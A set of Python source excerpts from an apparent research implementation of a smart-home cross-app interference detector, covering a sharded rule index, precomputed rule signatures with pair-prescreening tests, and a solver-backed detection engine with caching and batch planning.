        ``signatures`` maps rule id -> live (re-signed) signature; rule
        ids absent from the map — e.g. apps whose bindings changed and
        must be re-audited — are dropped from every bucket."""
        index = cls()

        def sigs(rule_ids: list[str]) -> list[RuleSignature]:
            return [
                signatures[rule_id]
                for rule_id in rule_ids
                if rule_id in signatures
            ]

        for name in _STR_KEYED_MAPS:
            mapping = getattr(index, name)
            for key, rule_ids in payload.get(name, {}).items():
                bucket = sigs(rule_ids)
                if bucket:
                    mapping[key] = bucket
        for name in _TUPLE_KEYED_MAPS:
            mapping = getattr(index, name)
            for key, rule_ids in payload.get(name, []):
                bucket = sigs(rule_ids)
                if bucket:
                    mapping[tuple(key)] = bucket
        for app, rule_ids in payload.get("by_app", {}).items():
            bucket = sigs(rule_ids)
            if bucket:
                index.by_app[app] = bucket
        return index


class ShardedRuleIndex:
    """A :class:`RuleIndex` per environment, for multi-home fleets.

    A device physically exists in one home and environment channels are
    per home, so almost every candidate lookup touches exactly one
    shard: the signature's own environment.  The one exception is a
    resolver that aliases a device *identity* across environments (e.g.
    repository analysis with per-tenant environments, where ``type:tv``
    can appear in two homes); ``_identity_envs`` tracks which shards
    know each identity so those direct-state candidates are still found
    and the reported threat set stays exactly equal to a flat
    :class:`RuleIndex`.

    Sharding is what makes the persisted store loadable per home
    (DESIGN.md §8): a fleet controller restoring one install touches
    one shard file, not the whole 5k-app snapshot.
    """

    __slots__ = ("shards", "_env_of_app", "_identity_envs")

    def __init__(self) -> None:
        self.shards: dict[str, RuleIndex] = {}
        self._env_of_app: dict[str, str] = {}
        # identity key -> {environment -> number of indexed signatures}
        self._identity_envs: dict[str, dict[str, int]] = {}

    def __len__(self) -> int:
        return sum(len(shard) for shard in self.shards.values())

    @property
    def apps(self) -> list[str]:
        return list(self._env_of_app)

    @property
    def environments(self) -> list[str]:
        return list(self.shards)

    def shard(self, environment: str) -> RuleIndex:
        existing = self.shards.get(environment)
        if existing is None:
            existing = self.shards[environment] = RuleIndex()
        return existing

    @staticmethod
    def _identities(sig: RuleSignature) -> set[str]:
        keys: set[str] = set()
        if sig.action_identity is not None:
            keys.add(sig.action_identity)
        if sig.trigger_identity is not None:
            keys.add(sig.trigger_identity)
        for read in sig.condition_reads:
            keys.add(read.identity)
        return keys

    # ------------------------------------------------------------------
    # Maintenance

    def add(self, sig: RuleSignature) -> None:
        env = sig.environment
        self._env_of_app[sig.app_name] = env
        self.shard(env).add(sig)
        for identity in self._identities(sig):
            counts = self._identity_envs.setdefault(identity, {})
            counts[env] = counts.get(env, 0) + 1

    def add_ruleset(self, sigs: Iterable[RuleSignature]) -> None:
        for sig in sigs:
            self.add(sig)

    def remove_app(self, app_name: str) -> None:
        env = self._env_of_app.pop(app_name, None)
        if env is None:
            return
        shard = self.shards.get(env)
        if shard is None:
            return
        for sig in shard.by_app.get(app_name, ()):
            for identity in self._identities(sig):
                counts = self._identity_envs.get(identity)
                if counts is None:
                    continue
                remaining = counts.get(env, 0) - 1
                if remaining > 0:
                    counts[env] = remaining
                else:
                    counts.pop(env, None)
                    if not counts:
                        del self._identity_envs[identity]
        shard.remove_app(app_name)
        if not len(shard):
            del self.shards[env]

    # ------------------------------------------------------------------
    # Candidate retrieval

    def candidates(
        self,
        sig: RuleSignature,
        exclude_app: str | None = None,
        prescreen=None,
    ) -> list[RuleSignature]:
        """Union of candidates over the home shard plus any foreign
        shard sharing one of the signature's device identities.

        Foreign-shard queries only ever match identity buckets: channel
        and mode buckets are keyed by the signature's own environment,
        which a foreign shard never contains.  ``prescreen`` runs once
        per cross-shard-deduplicated candidate, like the flat index."""
        env = sig.environment
        envs = [env]
        for identity in self._identities(sig):
            for other_env in self._identity_envs.get(identity, ()):
                if other_env not in envs:
                    envs.append(other_env)
        if len(envs) == 1:
            shard = self.shards.get(env)
            if shard is None:
                return []
            return shard.candidates(sig, exclude_app, prescreen)
        found: dict[str, RuleSignature] = {}
        for shard_env in envs:
            shard = self.shards.get(shard_env)
            if shard is None:
                continue
            for other in shard.candidates(sig, exclude_app):
                found.setdefault(other.rule_id, other)
        if prescreen is None:
            return list(found.values())
        return [other for other in found.values() if prescreen(other)]
