"""Per-rule detection signatures (pipeline layer 1, DESIGN.md §2).

A :class:`RuleSignature` precomputes every fact the candidate tests of
paper §VI need about one rule — actuator identity, commanded value,
effect channels, trigger subscription, condition reads — so the
detection engine never re-derives them per pair, and the inverted
:class:`~repro.detector.index.RuleIndex` can be built from plain hash
keys.  Signatures are immutable snapshots of the resolver's view at
signing time: when an app's configuration changes, its rules must be
re-signed (the pipeline invalidates them explicitly).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Mapping

from repro.capabilities.channels import channel_for_attribute
from repro.capabilities.effects import Effect, effects_of_command
from repro.constraints.builder import (
    DeviceResolver,
    environment_of,
    scoped_key,
)
from repro.detector.analysis import (
    NON_DEVICE_SUBJECTS,
    ConditionTouch,
    TriggerMatch,
    _direction_can_satisfy,
    _value_satisfies,
    action_identity,
    command_target,
    condition_device_attrs,
    condition_uses_location_mode,
    opposite_channels,
    targets_contradict,
    trigger_value_constraints,
)
from repro.rules.model import Rule, RuleSet
from repro.symex.values import DeviceAttr

# Trigger subjects no action can fire (paper §VI-B).
_UNFIREABLE_TRIGGER_SUBJECTS = ("install", "time", "app")


@dataclass(frozen=True, slots=True)
class ConditionRead:
    """One device attribute a rule's condition depends on."""

    identity: str           # resolved device identity key
    attr: DeviceAttr        # the raw attribute (for threat details)
    channel: str | None     # environment channel the attribute senses


@dataclass(frozen=True, slots=True, eq=False)
class RuleSignature:
    """Everything candidate filtering needs to know about one rule.

    ``eq=False``: signatures are compared by identity; two signatures of
    the same rule under different configurations are distinct.
    """

    rule: Rule
    environment: str                  # home/zone the app runs in
    # --- action side (the rule as interferer) -------------------------
    is_device_action: bool            # subject can touch devices at all
    sets_location_mode: bool          # action.subject == "location"
    action_identity: str | None       # actuator identity key (M_AR)
    action_type: str | None           # actuator device type (M_GC row)
    command_target: tuple[str, str | None] | None  # (attribute, value)
    action_effects: Mapping[str, Effect]           # channel -> direction
    # --- trigger side (the rule as interferee) ------------------------
    trigger_fireable: bool            # subject not install/time/app
    trigger_identity: str | None      # subscribed device identity key
    trigger_attribute: str
    trigger_has_device: bool
    trigger_channel: str | None       # channel the trigger attr senses
    trigger_bounds: tuple[tuple[str, object], ...]
    # --- condition side -----------------------------------------------
    condition_reads: tuple[ConditionRead, ...]
    condition_uses_mode: bool
    # --- prescreen sets (derived; constant-time pair intersection
    # tests, DESIGN.md §10; deliberately absent from the persisted
    # signature record — they carry no information of their own) -------
    effect_channels: frozenset[str] = frozenset()
    effect_dirs: frozenset[tuple[str, str]] = frozenset()
    opposite_effect_dirs: frozenset[tuple[str, str]] = frozenset()
    condition_direct_keys: frozenset[tuple[str, str]] = frozenset()
    condition_channels: frozenset[str] = frozenset()

    @property
    def rule_id(self) -> str:
        return self.rule.rule_id

    @property
    def app_name(self) -> str:
        return self.rule.app_name


def compute_signature(resolver: DeviceResolver, rule: Rule) -> RuleSignature:
    """Derive a rule's signature under the resolver's current bindings."""
    action = rule.action
    environment = environment_of(resolver, rule.app_name)
    identity, type_name = action_identity(resolver, rule)
    if identity == "location:mode" and environment:
        # The location mode is one virtual actuator *per home*.
        identity = scoped_key(environment, "location:mode")
    effects = (
        effects_of_command(type_name, action.command) if type_name else {}
    )

    trigger = rule.trigger
    fireable = trigger.subject not in _UNFIREABLE_TRIGGER_SUBJECTS
    trigger_identity: str | None = None
    trigger_channel: str | None = None
    has_device = trigger.device is not None
    bounds: tuple[tuple[str, object], ...] = ()
    if fireable:
        if trigger.subject == "location":
            trigger_identity = scoped_key(environment, "location:mode")
        elif has_device:
            trigger_identity, _ = resolver.identity(
                rule.app_name, trigger.device
            )
        if has_device:
            channel = channel_for_attribute(trigger.attribute)
            trigger_channel = channel.name if channel is not None else None
        bounds = tuple(trigger_value_constraints(trigger))

    reads = []
    for attr in condition_device_attrs(rule):
        read_identity, _ = resolver.identity(rule.app_name, attr.device)
        channel = channel_for_attribute(attr.attribute)
        reads.append(
            ConditionRead(
                identity=read_identity,
                attr=attr,
                channel=channel.name if channel is not None else None,
            )
        )

    return RuleSignature(
        rule=rule,
        environment=environment,
        is_device_action=action.subject not in NON_DEVICE_SUBJECTS,
        sets_location_mode=action.subject == "location",
        action_identity=identity,
        action_type=type_name,
        command_target=command_target(action),
        action_effects=effects,
        trigger_fireable=fireable,
        trigger_identity=trigger_identity,
        trigger_attribute=trigger.attribute,
        trigger_has_device=has_device,
        trigger_channel=trigger_channel,
        trigger_bounds=bounds,
        condition_reads=tuple(reads),
        condition_uses_mode=condition_uses_location_mode(rule),
        effect_channels=frozenset(effects),
        effect_dirs=frozenset(
            (channel, effect.value) for channel, effect in effects.items()
        ),
        opposite_effect_dirs=frozenset(
            (channel, effect.opposite.value)
            for channel, effect in effects.items()
        ),
        condition_direct_keys=frozenset(
            (read.identity, read.attr.attribute) for read in reads
        ),
        condition_channels=frozenset(
            read.channel for read in reads if read.channel is not None
        ),
    )


class SignatureBuilder:
    """Signs rules once, memoized by rule id.

    The memo assumes stable configuration; callers that change an app's
    resolver bindings must :meth:`invalidate_app` before re-signing.
    """

    def __init__(self, resolver: DeviceResolver) -> None:
        self._resolver = resolver
        self._memo: dict[str, RuleSignature] = {}

    def sign(self, rule: Rule) -> RuleSignature:
        cached = self._memo.get(rule.rule_id)
        if cached is not None and cached.rule is rule:
            return cached
        signature = compute_signature(self._resolver, rule)
        self._memo[rule.rule_id] = signature
        return signature

    def sign_ruleset(self, ruleset: RuleSet) -> list[RuleSignature]:
        return [self.sign(rule) for rule in ruleset.rules]

    def invalidate_app(self, app_name: str) -> None:
        prefix = f"{app_name}/"
        for rule_id in [k for k in self._memo if k.startswith(prefix)]:
            del self._memo[rule_id]


# ----------------------------------------------------------------------
# Signed candidate tests — signature-based equivalents of the per-pair
# derivations in :mod:`repro.detector.analysis`.


def signatures_contradict(sig_a: RuleSignature, sig_b: RuleSignature) -> bool:
    """A1 = ¬A2 over precomputed command targets (paper §VI-A1)."""
    return targets_contradict(
        sig_a.command_target,
        sig_b.command_target,
        sig_a.rule.action,
        sig_b.rule.action,
    )


def signed_goal_conflicts(
    sig_a: RuleSignature, sig_b: RuleSignature
) -> list[str]:
    """Channels where the two actions push in opposite directions.

    Environment channels are physical features of one home: actions in
    different environments cannot conflict."""
    if sig_a.environment != sig_b.environment:
        return []
    return opposite_channels(sig_a.action_effects, sig_b.action_effects)


def signed_action_triggers(
    sig_a: RuleSignature, sig_b: RuleSignature
) -> TriggerMatch | None:
    """Does sig_a's action satisfy sig_b's trigger (A1 ↦ T2)?"""
    if not sig_a.is_device_action or not sig_b.trigger_fireable:
        return None
    # Way 1: direct state change.
    if (
        sig_a.action_identity is not None
        and sig_b.trigger_identity is not None
        and sig_a.action_identity == sig_b.trigger_identity
        and sig_a.command_target is not None
    ):
        attribute, value = sig_a.command_target
        if attribute == sig_b.trigger_attribute and _value_satisfies(
            value, list(sig_b.trigger_bounds)
        ):
            return TriggerMatch(way="direct")
    # Way 2: environment channel (only within one home).
    if sig_a.action_type is None or not sig_b.trigger_has_device:
        return None
    if sig_b.trigger_channel is None:
        return None
    if sig_a.environment != sig_b.environment:
        return None
    effect = sig_a.action_effects.get(sig_b.trigger_channel)
    if effect is None:
        return None
    if _direction_can_satisfy(effect, list(sig_b.trigger_bounds)):
        return TriggerMatch(way="environment", channel=sig_b.trigger_channel)
    return None


# ----------------------------------------------------------------------
# Symbolic prescreen (DESIGN.md §10)


def _may_touch_condition(
    sig_a: RuleSignature, sig_b: RuleSignature, same_env: bool
) -> bool:
    """Whether sig_a's action could affect sig_b's condition inputs —
    the boolean shadow of :func:`signed_condition_touches` plus the
    engine's location-mode touch, over precomputed intersection sets."""
    if same_env and sig_a.sets_location_mode and sig_b.condition_uses_mode:
        return True
    if not sig_a.is_device_action or sig_a.action_identity is None:
        return False
    target = sig_a.command_target
    if (
        target is not None
        and (sig_a.action_identity, target[0]) in sig_b.condition_direct_keys
    ):
        return True
    return same_env and not sig_b.condition_channels.isdisjoint(
        sig_a.effect_channels
    )


def may_interfere(sig_a: RuleSignature, sig_b: RuleSignature) -> bool:
    """Could this pair produce *any* CAI threat?  ``False`` prunes the
    pair before a single constraint term is built.

    Soundness: every threat class's detection path is gated on one of
    the candidate tests below (see :meth:`DetectionEngine._detect_pair`
    — AR on equal contradictory actuators, GC on opposite same-home
    effects of distinct actuators, CT/SD/LT on an action firing the
    other rule's trigger, EC/DC on an action touching the other rule's
    condition inputs or location mode).  A pair failing all of them
    performs no solver lookup and reports no threat, so pruning it
    changes nothing but the work done — asserted pair-by-pair against
    brute-force :meth:`DetectionEngine.detect_pair` in
    ``tests/test_prescreen_properties.py``."""
    identity_a = sig_a.action_identity
    identity_b = sig_b.action_identity
    # AR: same actuator driven to contradictory targets.
    if (
        identity_a is not None
        and identity_a == identity_b
        and signatures_contradict(sig_a, sig_b)
    ):
        return True
    same_env = sig_a.environment == sig_b.environment
    # GC: opposite effects on a shared channel of one home; the engine
    # only tests distinct actuators (equal identities race instead).
    if (
        same_env
        and (identity_a is None or identity_a != identity_b)
        and not sig_a.opposite_effect_dirs.isdisjoint(sig_b.effect_dirs)
    ):
        return True
    # CT/SD/LT: one action fires the other's trigger (value-interval
    # and direction tests included), in either direction.
    if signed_action_triggers(sig_a, sig_b) is not None:
        return True
    if signed_action_triggers(sig_b, sig_a) is not None:
        return True
    # EC/DC: one action touches the other's condition inputs.
    return _may_touch_condition(sig_a, sig_b, same_env) or _may_touch_condition(
        sig_b, sig_a, same_env
    )


def signed_condition_touches(
    sig_a: RuleSignature, sig_b: RuleSignature
) -> list[ConditionTouch]:
    """All ways sig_a's action affects sig_b's condition inputs."""
    if not sig_a.is_device_action or sig_a.action_identity is None:
        return []
    same_environment = sig_a.environment == sig_b.environment
    touches: list[ConditionTouch] = []
    for read in sig_b.condition_reads:
        if read.identity == sig_a.action_identity:
            target = sig_a.command_target
            if target is not None and target[0] == read.attr.attribute:
                touches.append(ConditionTouch(way="direct", attr=read.attr))
                continue
        if (
            same_environment
            and read.channel is not None
            and read.channel in sig_a.action_effects
        ):
            touches.append(
                ConditionTouch(
                    way="environment",
                    attr=read.attr,
                    channel=read.channel,
                    effect=sig_a.action_effects[read.channel],
                )
            )
    return touches
