"""The detection engine (paper §VI, Fig. 6 "Detection Engine").

Detection for a rule pair proceeds in two steps: a light-weight
*candidate filtering* based on the pre-stored M_AR / M_GC mappings and
trigger/condition analysis, then an *overlapping-condition detection*
that merges the rules' constraints and asks the solver for
satisfiability.  Solving results are cached and reused across threat
types — AR's result serves CT/SD/LT, and DC reuses EC's solve (paper
Fig. 9) — so the expensive step runs at most twice per pair direction.

Since the indexed-pipeline refactor (DESIGN.md), the pairwise tests run
over precomputed :class:`~repro.detector.signature.RuleSignature`
objects: :meth:`DetectionEngine.detect_signed` is the primitive, and
:meth:`DetectionEngine.detect_pair` is a thin compatibility wrapper
that signs its arguments first.  Store-scale workloads should use
:class:`~repro.detector.pipeline.DetectionPipeline`, which feeds the
engine only index-selected candidate pairs.

Plan/execute detection (DESIGN.md §9)
-------------------------------------

The pairwise tests are written once, against a *solve access* object:

* the inline access solves cache misses immediately — the serial hot
  path, byte-for-byte the historical behavior;
* the batch access answers from the caches and from already-executed
  batch outcomes, and otherwise emits a :class:`~repro.constraints
  .dispatch.SolveTask` and reports the lookup as *pending*.

:meth:`DetectionEngine.detect_signed_batch` drives the second mode:
planning passes (pure, cheap) collect every cache-missing constraint
instance of a whole pair list into a :class:`~repro.constraints
.dispatch.SolveBatch`, a :class:`~repro.constraints.dispatch
.SolverDispatcher` executes them (serially, on threads, or on worker
processes), and a final pass replays each pair in order, committing
results into the solve caches in exactly the order the serial engine
would have produced — so threat lists, stats counters and exported
caches are identical for every backend and worker count.

Since the parallel-planning refactor (DESIGN.md §10), pooled backends
shard the planning passes themselves: each round's pending pairs are
chunked into :class:`~repro.constraints.dispatch.PlanTask`\\ s that
workers plan *and solve* against scratch engines seeded with this
engine's cached verdicts (:func:`plan_pair_chunk`), while the
coordinator only merges keyed outcomes in chunk order and runs the
serial finalize pass.
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field
from typing import Sequence

from repro.capabilities.channels import CHANNELS
from repro.constraints.builder import (
    ConstraintBuilder,
    DeviceResolver,
    FormulaInterner,
    environment_of,
    scoped_key,
)
from repro.constraints.dispatch import (
    KNOWN_INEXPRESSIBLE,
    KNOWN_SAT,
    KNOWN_UNKNOWN,
    KNOWN_UNSAT,
    PairKnowledge,
    PlanResult,
    PlanTask,
    SerialDispatcher,
    SolveBatch,
    SolveOutcome,
    SolveTask,
    SolverDispatcher,
    TaskKey,
    execute_chunk,
    resolver_from_payload,
)
from repro.constraints.solvecache import (
    cache_from_payload,
    decode_entry,
    encode_entry,
    shared_key,
)
from repro.constraints.solver import Result, Solver, VarPool
from repro.constraints.terms import BoolFormula, CmpAtom, StrTerm, conj, lit
from repro.detector.analysis import ConditionTouch, command_target
from repro.detector.signature import (
    RuleSignature,
    SignatureBuilder,
    signatures_contradict,
    signed_action_triggers,
    signed_condition_touches,
    signed_goal_conflicts,
)
from repro.detector.types import Threat, ThreatReport, ThreatType
from repro.rules.model import Rule, RuleSet
from repro.symex.values import Const

# Where a direction-only effect (heater on -> temperature rises) is
# assumed to drive a channel, relative to the channel's range.  A pure
# modeling choice documented in DESIGN.md: the paper's example only
# covers setpoint commands, which carry an explicit target.
EFFECT_TARGET_FRACTION = 0.75

# Sentinel a batch-planning solve lookup returns when the result is not
# known yet (the task was queued instead).  Never escapes the engine.
PENDING = object()


def app_of_rule_id(rule_id: str) -> str:
    """The app a rule id belongs to (ids are ``<app_name>/R<n>``)."""
    return rule_id.rsplit("/", 1)[0]


@dataclass(slots=True)
class DetectionStats:
    """Timing/accounting for the Fig. 9 overhead reproduction.

    Batched (plan/execute) runs additionally split the wall clock into
    ``plan_seconds`` — the pure planning/finalize passes in the
    coordinating process — and ``dispatch_seconds`` — the wall time a
    dispatcher took to execute the solve batches, which with process
    workers is *less* than the summed solver CPU the tasks cost."""

    candidate_seconds: dict[ThreatType, float] = field(default_factory=dict)
    solve_seconds: dict[ThreatType, float] = field(default_factory=dict)
    solver_calls: int = 0
    cache_hits: int = 0
    pairs_examined: int = 0
    # Prescreen accounting (DESIGN.md §10), attributed exactly once per
    # candidate pair when the pair list is built — planning rounds and
    # the finalize pass never re-count them.
    prescreen_pruned_pairs: int = 0
    planned_pairs: int = 0
    # Shared cross-tenant solve cache accounting (DESIGN.md §12), both
    # attributed exactly once: a hit when a verdict is served from the
    # shared backend instead of a solver call, a publish when this
    # engine's executed solve newly entered the backend.
    shared_cache_hits: int = 0
    shared_cache_publishes: int = 0
    # Plan/execute accounting (zero for inline detection).
    plan_seconds: float = 0.0
    dispatch_seconds: float = 0.0
    # Summed CPU spent in planning passes, across however many workers
    # planned them (= plan wall for the single-planner paths; the
    # chunked fan-out reports each chunk's planning cost exactly once).
    plan_cpu_seconds: float = 0.0
    # Storage-engine accounting (DESIGN.md §14): bytes the store
    # backend durably wrote for this home's commits (delta records are
    # O(changed app); full snapshots and compactions count too) and the
    # wall seconds those commits took end to end.
    store_bytes_written: int = 0
    store_commit_seconds: float = 0.0
    # Fault-recovery accounting (DESIGN.md §15), drained from the
    # dispatcher once per batch so every recovery event lands in
    # exactly one batch's stats: solve tasks re-executed after a
    # worker failure, chunks requeued (resubmitted or re-run inline),
    # failed worker messages, and serial-degraded-mode trips.
    tasks_retried: int = 0
    chunks_requeued: int = 0
    pool_failures: int = 0
    degraded_serial: int = 0
    # Runtime-monitor accounting (DESIGN.md §16), maintained by the
    # tenant home's ingestion path: events run through the home's
    # MonitorEngine, deduplicated observations emitted, and the
    # confirmed/contradicted/anomaly split of those observations.
    monitor_events: int = 0
    monitor_observations: int = 0
    threats_confirmed: int = 0
    threats_contradicted: int = 0
    anomalies_flagged: int = 0

    def add_candidate(self, threat_type: ThreatType, seconds: float) -> None:
        self.candidate_seconds[threat_type] = (
            self.candidate_seconds.get(threat_type, 0.0) + seconds
        )

    def add_solve(self, threat_type: ThreatType, seconds: float) -> None:
        self.solve_seconds[threat_type] = (
            self.solve_seconds.get(threat_type, 0.0) + seconds
        )

    def solver_cpu_seconds(self) -> float:
        """Summed CPU seconds spent inside the solver, across however
        many workers executed the solves."""
        return sum(self.solve_seconds.values())

    def total_solve_seconds(self) -> float:
        """Summed solver CPU seconds, each executed solve counted
        exactly once — when it actually ran.

        Candidates served from a cache (including a condition overlap
        reusing a situation solve, Fig. 9) contribute nothing: a batched
        dispatch merges one timing per executed task, never one per
        lookup, so cache-hit candidates are not double-counted."""
        return self.solver_cpu_seconds()

    def solve_wall_seconds(self) -> float:
        """Wall seconds the solve phase took: the dispatch wall time for
        batched runs, the (serial) CPU sum for inline runs."""
        if self.dispatch_seconds:
            return self.dispatch_seconds
        return self.solver_cpu_seconds()


def _unordered_key(kind: str, rule_a: Rule, rule_b: Rule) -> TaskKey:
    id_a, id_b = rule_a.rule_id, rule_b.rule_id
    if id_b < id_a:
        id_a, id_b = id_b, id_a
    return (kind, id_a, id_b)


class _InlineSolves:
    """Solve access for serial detection: a cache miss solves on the
    spot and every counter is attributed immediately (the historical
    engine behavior, unchanged)."""

    __slots__ = ("engine",)
    record = True

    def __init__(self, engine: "DetectionEngine") -> None:
        self.engine = engine

    def count_pair(self) -> None:
        self.engine.stats.pairs_examined += 1

    def add_candidate(self, threat_type: ThreatType, seconds: float) -> None:
        self.engine.stats.add_candidate(threat_type, seconds)

    def situation(
        self, rule_a: Rule, rule_b: Rule, threat_type: ThreatType
    ) -> Result:
        return self.engine._overlap_situation(rule_a, rule_b, threat_type)

    def conditions(
        self, rule_a: Rule, rule_b: Rule, threat_type: ThreatType
    ) -> Result:
        return self.engine._overlap_conditions(rule_a, rule_b, threat_type)

    def effect(
        self,
        rule_a: Rule,
        rule_b: Rule,
        touches: list[ConditionTouch],
        mode_touch: bool,
    ) -> Result | None:
        return self.engine._solve_effect(rule_a, rule_b, touches, mode_touch)


class _BatchRun:
    """Shared state of one :meth:`DetectionEngine.detect_signed_batch`:
    the task batch plus planning verdicts that never become tasks."""

    __slots__ = ("batch", "inexpressible", "publish")

    def __init__(self) -> None:
        self.batch = SolveBatch()
        # Effect task keys planning proved inexpressible (the serial
        # path caches ``None`` for these without calling the solver).
        self.inexpressible: set[TaskKey] = set()
        # Shared-cache misses awaiting publication: task key ->
        # (shared key, var map, free map) captured at consult time, so
        # the executed outcome can be encoded without rebuilding the
        # constraint instance (DESIGN.md §12).
        self.publish: dict[TaskKey, tuple[str, dict, dict]] = {}


class _BatchSolves:
    """Solve access for plan/execute detection.

    In *planning* passes (``record=False``) a lookup answers from the
    engine caches or from executed batch outcomes; a miss queues a
    :class:`SolveTask` (once per key) and returns :data:`PENDING`
    without touching any stats or cache.  The *finalize* pass
    (``record=True``) replays the pair with every outcome available and
    commits results + counters in exactly the serial engine's order."""

    __slots__ = ("engine", "run", "record", "pending")

    def __init__(
        self, engine: "DetectionEngine", run: _BatchRun, record: bool
    ) -> None:
        self.engine = engine
        self.run = run
        self.record = record
        self.pending = False

    # -- stats attribution (finalize pass only) ------------------------

    def count_pair(self) -> None:
        if self.record:
            self.engine.stats.pairs_examined += 1

    def add_candidate(self, threat_type: ThreatType, seconds: float) -> None:
        if self.record:
            self.engine.stats.add_candidate(threat_type, seconds)

    def _defer(self):
        if self.record:
            raise RuntimeError(
                "batch finalize pass hit an unexecuted solve; "
                "planning rounds did not converge"
            )
        self.pending = True
        return PENDING

    # -- lookups -------------------------------------------------------

    def situation(
        self, rule_a: Rule, rule_b: Rule, threat_type: ThreatType
    ) -> Result:
        engine = self.engine
        key = frozenset((rule_a.rule_id, rule_b.rule_id))
        cached = engine._situation_cache.get(key)
        if cached is not None:
            if self.record:
                engine.stats.cache_hits += 1
            return cached
        task_key = _unordered_key("situation", rule_a, rule_b)
        outcome = self.run.batch.outcome(task_key)
        if outcome is not None:
            if self.record:
                if outcome.shared:
                    engine.stats.shared_cache_hits += 1
                else:
                    engine.stats.solver_calls += 1
                    engine.stats.add_solve(threat_type, outcome.seconds)
                engine._situation_cache[key] = outcome.result
            return outcome.result
        if task_key not in self.run.batch.requested:
            pool, formula = engine._situation_instance(rule_a, rule_b)
            if not self.record:
                result = engine._shared_consult(
                    task_key, pool, formula, self.run
                )
                if result is not None:
                    return result
            self.run.batch.add(SolveTask(task_key, pool, formula))
        return self._defer()

    def conditions(
        self, rule_a: Rule, rule_b: Rule, threat_type: ThreatType
    ) -> Result:
        engine = self.engine
        key = frozenset((rule_a.rule_id, rule_b.rule_id))
        # Fig. 9 reuse, exactly like the serial path: a SAT situation
        # answer for the pair settles the condition overlap.  On the
        # finalize pass any batch-solved situation was already committed
        # to the cache (the situation lookup runs earlier in the pair),
        # so the cache alone is authoritative there.
        situation = engine._situation_cache.get(key)
        situation_key = _unordered_key("situation", rule_a, rule_b)
        if situation is None and not self.record:
            outcome = self.run.batch.outcome(situation_key)
            if outcome is not None:
                situation = outcome.result
        if situation is not None and situation.sat:
            if self.record:
                engine.stats.cache_hits += 1
            return situation
        if (
            situation is None
            and not self.record
            and situation_key in self.run.batch.requested
            and self.run.batch.outcome(situation_key) is None
        ):
            # The situation solve is queued but not executed yet; only
            # its verdict decides whether a condition solve is needed.
            return self._defer()
        cached = engine._condition_cache.get(key)
        if cached is not None:
            if self.record:
                engine.stats.cache_hits += 1
            return cached
        task_key = _unordered_key("condition", rule_a, rule_b)
        outcome = self.run.batch.outcome(task_key)
        if outcome is not None:
            if self.record:
                if outcome.shared:
                    engine.stats.shared_cache_hits += 1
                else:
                    engine.stats.solver_calls += 1
                    engine.stats.add_solve(threat_type, outcome.seconds)
                engine._condition_cache[key] = outcome.result
            return outcome.result
        if task_key not in self.run.batch.requested:
            pool, formula = engine._condition_instance(rule_a, rule_b)
            if not self.record:
                result = engine._shared_consult(
                    task_key, pool, formula, self.run
                )
                if result is not None:
                    return result
            self.run.batch.add(SolveTask(task_key, pool, formula))
        return self._defer()

    def effect(
        self,
        rule_a: Rule,
        rule_b: Rule,
        touches: list[ConditionTouch],
        mode_touch: bool,
    ) -> Result | None:
        engine = self.engine
        key = (rule_a.rule_id, rule_b.rule_id)
        if key in engine._effect_cache:
            if self.record:
                engine.stats.cache_hits += 1
            return engine._effect_cache[key]
        task_key = ("effect", key[0], key[1])
        outcome = self.run.batch.outcome(task_key)
        if outcome is not None:
            if self.record:
                if outcome.shared:
                    engine.stats.shared_cache_hits += 1
                else:
                    engine.stats.solver_calls += 1
                    engine.stats.add_solve(
                        ThreatType.ENABLING_CONDITION, outcome.seconds
                    )
                engine._effect_cache[key] = outcome.result
            return outcome.result
        if task_key in self.run.inexpressible:
            if self.record:
                # Persist the planning verdict just like the serial
                # path caches the inexpressible-effect ``None``.
                engine._effect_cache[key] = None
            return None
        if task_key in self.run.batch.requested:
            return self._defer()
        instance = engine._effect_instance(rule_a, rule_b, touches, mode_touch)
        if instance is None:
            self.run.inexpressible.add(task_key)
            if self.record:
                engine._effect_cache[key] = None
            return None
        if not self.record:
            result = engine._shared_consult(task_key, *instance, self.run)
            if result is not None:
                return result
        self.run.batch.add(SolveTask(task_key, *instance))
        return self._defer()


class DetectionEngine:
    """Pairwise CAI threat detection over extracted rules."""

    def __init__(
        self, resolver: DeviceResolver, shared_cache=None
    ) -> None:
        self._resolver = resolver
        self.signatures = SignatureBuilder(resolver)
        self.stats = DetectionStats()
        # Optional shared cross-tenant solve cache (DESIGN.md §12): a
        # :class:`~repro.constraints.solvecache.SolveCacheBackend`
        # consulted between the per-home caches and the solver.  It
        # only ever short-circuits solves — with it on, off, or
        # corrupted, threats, exported caches and store bytes are
        # byte-identical.
        self.shared_cache = shared_cache
        # Per-rule lowering memo shared by every constraint instance
        # this engine builds (DESIGN.md §10); invalidated with the
        # signature memo when an app's bindings change.
        self._interner = FormulaInterner()
        # Solve caches, keyed by rule-id pairs: merged trigger+condition
        # situations, condition-only overlaps, and EC/DC effect solves.
        self._situation_cache: dict[frozenset[str], Result] = {}
        self._condition_cache: dict[frozenset[str], Result] = {}
        self._effect_cache: dict[tuple[str, str], Result | None] = {}

    @property
    def resolver(self) -> DeviceResolver:
        return self._resolver

    def reset_stats(self) -> None:
        """Zero the counters without dropping the solve caches, so
        benchmarks can reuse one engine across measured phases."""
        self.stats = DetectionStats()

    def invalidate_app(self, app_name: str) -> None:
        """Drop every cached signature and solve result involving an
        app, e.g. after its configuration changed."""
        self.signatures.invalidate_app(app_name)
        self._interner.invalidate_app(app_name)
        prefix = f"{app_name}/"
        for cache in (self._situation_cache, self._condition_cache):
            stale = [
                key
                for key in cache
                if any(rule_id.startswith(prefix) for rule_id in key)
            ]
            for key in stale:
                del cache[key]
        stale_effects = [
            key
            for key in self._effect_cache
            if key[0].startswith(prefix) or key[1].startswith(prefix)
        ]
        for key in stale_effects:
            del self._effect_cache[key]

    # ------------------------------------------------------------------
    # Cache persistence (DESIGN.md §8)

    def export_caches(self) -> dict[str, list]:
        """Snapshot the solve caches as a JSON-serializable payload.

        Cache keys are rule-id pairs and values are solver
        :class:`Result`s (or ``None`` for inexpressible effects), so the
        payload round-trips losslessly through JSON and a fresh process
        can replay an audit without any solver calls (warm start)."""
        def dump(result: Result | None) -> dict | None:
            if result is None:
                return None
            return {
                "sat": result.sat,
                "witness": dict(result.witness),
                "decisions": result.decisions,
            }

        return {
            "situation": [
                [sorted(key), dump(result)]
                for key, result in self._situation_cache.items()
            ],
            "condition": [
                [sorted(key), dump(result)]
                for key, result in self._condition_cache.items()
            ],
            "effect": [
                [list(key), dump(result)]
